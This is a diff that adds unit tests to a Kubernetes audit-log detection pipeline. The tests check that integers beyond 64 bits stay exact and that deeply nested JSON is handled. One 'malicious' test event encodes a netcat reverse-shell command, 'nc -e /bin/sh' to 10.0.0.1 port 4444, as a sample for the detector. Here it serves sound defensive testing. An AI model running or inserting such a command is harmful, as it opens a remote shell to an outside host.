@@ -25,11 +25,12 @@ from detections.audit_event import decode_message
 from detections.engine import Detector
 from detections.errors import MalformedEvent
 from detections.rule_gate import RuleGate
-from detections.rule_loader import EsqlRule, load_rule_file, load_rules
+from detections.rule_loader import EsqlRule, load_rule_file, load_rules, rule_from_table
 from stream.alert_window import RecentAlerts
 from stream.pipeline import DetectionPipeline
 from stream.synthetic import as_ecs, as_event_list, as_wrapped, exec_audit_events
 from stream.traffic import go_json, records
+from tests.unit.esql_harness import RULE_TABLE
 
 SOURCE = SourceRef("file", file="fast-path", line=1)
 Outcome = tuple[str, Any]
@@ -377,3 +378,49 @@ def test_routine_shortcut_refuses_and_keeps_exactly_as_the_full_path(
         fast = DetectionPipeline(detector, RecentAlerts(10), clock=_clock)
         full = DetectionPipeline(ungated, RecentAlerts(10), clock=_clock)
         assert _outcome(fast, data) == _outcome(full, data), shape
+
+
+def test_integers_beyond_64_bits_stay_exact_where_they_are_read(
+    detector: Detector, ungated: Detector
+) -> None:
+    huge = 2**70 + 1
+    routine = _exec_event("command=id&container=web&stdout=1")
+    routine["objectRef"] = {"resource": "pods", "namespace": "default", "name": "web-1"}
+    routine["requestURI"] = "/api/v1/namespaces/default/pods/web-1"
+    routine["responseStatus"] = {"code": huge}
+    malicious = {
+        **_exec_event(
+            "command=sh&command=-c&command=nc+-e+%2Fbin%2Fsh+10.0.0.1+4444&container=web&stdout=1"
+        ),
+        "responseStatus": {"code": huge},
+    }
+    for event in (routine, malicious):
+        data = json.dumps(event).encode()
+        fast = DetectionPipeline(detector, RecentAlerts(10), clock=_clock)
+        full = DetectionPipeline(ungated, RecentAlerts(10), clock=_clock)
+        assert _outcome(fast, data) == _outcome(full, data)
+    reader = rule_from_table(
+        {
+            **RULE_TABLE,
+            "query": "FROM logs-kubernetes.audit_logs-* "
+            '| WHERE kubernetes.audit.objectRef.subresource == "exec" '
+            "| EVAL code = kubernetes.audit.responseStatus.code | KEEP code",
+        },
+        "<test>",
+    )
+    pipeline = DetectionPipeline(Detector([reader]), RecentAlerts(10), clock=_clock)
+    (alert,) = pipeline.process_message(json.dumps(malicious).encode(), SOURCE).alerts
+    # The exact digits (alerts carry integers beyond 64 bits as text), not 1.1805916207174113e+21
+    assert str(alert.fields["code"]) == str(huge)
+
+
+def test_nesting_is_accepted_to_orjson_depth() -> None:
+    deep = '{"a":' * 1000 + "1" + "}" * 1000
+    event = json.dumps(_exec_event("command=id&container=web")).encode()
+    data = event[:-1] + b',"x":' + deep.encode() + b"}"
+    (decoded,) = decode_message(data)
+    assert decoded.audit_id == "0f0e0d0c-0b0a-4908-8706-050403020100"
+    too_deep = event[:-1] + b',"x":' + ("[" * 1100 + "]" * 1100).encode() + b"}"
+    with pytest.raises(MalformedEvent) as refused:
+        decode_message(too_deep)
+    assert refused.value.reason == "not_json"
